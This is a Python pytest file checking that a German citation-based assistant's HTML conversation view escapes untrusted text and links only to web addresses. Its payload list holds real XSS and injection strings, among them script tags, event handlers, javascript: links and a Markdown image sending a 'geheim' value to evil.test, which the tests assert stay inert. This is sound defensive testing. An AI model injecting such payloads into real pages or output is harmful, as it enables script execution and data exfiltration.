"""The conversation as HTML: whatever comes in stays text."""

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from assistant.domain import (
    Answer,
    AnswerSentence,
    Box,
    Citation,
    CitedPage,
    DocumentSummary,
    Mode,
    Span,
    Status,
    Support,
)
from ui.conversation import Exchange, conversation_html, documents_html, plain_text

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "![x](http://evil.test/?q=geheim)",
    "[a](javascript:alert(1))",
    "</textarea></section><form action=http://evil.test><input>",
    "Zeile\n\n# Überschrift\n\n**fett** $$x$$",
    "<style>body{position:fixed}</style>",
    "&lt;script&gt; &amp;",
]

CITATION = Citation(
    marker=1,
    document="d",
    title="Leitfaden",
    span=Span(start=0, end=4),
    quote="Text",
    section=("Kapitel", "Abschnitt"),
    pages=(CitedPage(number=16, label="12", boxes=(Box(x0=0, y0=0, x1=1, y1=1),)),),
    url="https://example.org/",
    stand="2025-04-29",
    notice="Praxisausgabe",
)

ANSWER = Answer(
    question="Frage?",
    status=Status.ANSWERED,
    mode=Mode.EXTRACTIVE,
    text="Text [1]",
    confidence=0.9,
    sentences=(AnswerSentence(text="Text", citations=(1,), support=Support.VERBATIM),),
    citations=(CITATION,),
)


class Tags(HTMLParser):
    """Collects what a browser would build."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


def everywhere(payload: str) -> str:
    """A conversation and a list of documents with ``payload`` in every text."""
    citation = replace(
        CITATION, title=payload, quote=payload, section=(payload,), stand=payload, notice=payload,
        pages=(CitedPage(number=1, label=payload),),
    )  # fmt: skip
    sentence = AnswerSentence(text=payload, citations=(1,), support=Support.UNSUPPORTED)
    answer = replace(ANSWER, text=payload, sentences=(sentence,), citations=(citation,), note=payload)
    declined = replace(answer, status=Status.DECLINED, citations=(), sentences=(), suggestions=(payload,))
    document = DocumentSummary(
        id="d", title=payload, kind="faq", url="", stand=payload, sha256="", pages=0, characters=1
    )
    exchanges = [
        Exchange(question=payload, answer=answer),
        Exchange(question=payload, answer=declined),
        Exchange(question=payload, error=payload),
        Exchange(question=payload, sentences=(sentence,)),
    ]
    return conversation_html(exchanges) + documents_html([document])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_text_wherever_it_comes_from(payload: str) -> None:
    harmless, attacked = Tags(everywhere("Text")), Tags(everywhere(payload))

    assert attacked.names == harmless.names
    assert not [name for name, _ in attacked.attributes if name.startswith("on")]
    assert " ".join(payload.split()) in attacked.text
    # A blank line would end the HTML block, and what follows would be read as Markdown.
    assert "\n" not in everywhere(payload)


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "", "//evil.test"])
def test_only_web_addresses_become_links(url: str) -> None:
    html = conversation_html([Exchange(question="?", answer=replace(ANSWER, citations=(replace(CITATION, url=url),)))])

    assert "Quelle im Netz öffnen" not in html


def test_a_source_names_title_section_pages_date_notice_and_quote() -> None:
    text = Tags(conversation_html([Exchange(question="Frage?", answer=ANSWER)])).text

    for part in (
        "Leitfaden", "Kapitel › Abschnitt", "S. 12 (PDF-Seite 16)", "Stand 29.04.2025", "Hinweis: Praxisausgabe",
        "„Text“", "Beantwortet · wörtlich aus den Quellen · Verlässlichkeit hoch (90 %)",
    ):  # fmt: skip
        assert part in text


def test_every_mark_leads_to_its_source() -> None:
    html = conversation_html([Exchange(question="?", answer=ANSWER), Exchange(question="?", answer=ANSWER)])

    targets = re.findall(r'href="#([^"]+)"', html)
    ids = re.findall(r' id="([^"]+)"', html)
    assert len(targets) == len(set(targets)) == 2
    assert set(targets) <= set(ids)
    assert len(ids) == len(set(ids))


def test_a_declined_question_offers_the_fachstelle() -> None:
    declined = replace(ANSWER, status=Status.DECLINED, sentences=(), citations=(), suggestions=("Leitfaden › A",))
    html = conversation_html([Exchange(question="Was & wer?", answer=declined)])

    assert 'href="mailto:info@inge-sachsen.de?subject=' in html
    assert "Was%20%26%20wer%3F" in html
    assert "Leitfaden › A" in html


def test_a_copied_answer_carries_its_sources_and_says_that_an_ai_made_it() -> None:
    copied = plain_text(ANSWER)

    assert "[1] Leitfaden, Kapitel › Abschnitt, S. 12 (PDF-Seite 16), Stand 29.04.2025: „Text“" in copied
    assert "KI-System" in copied
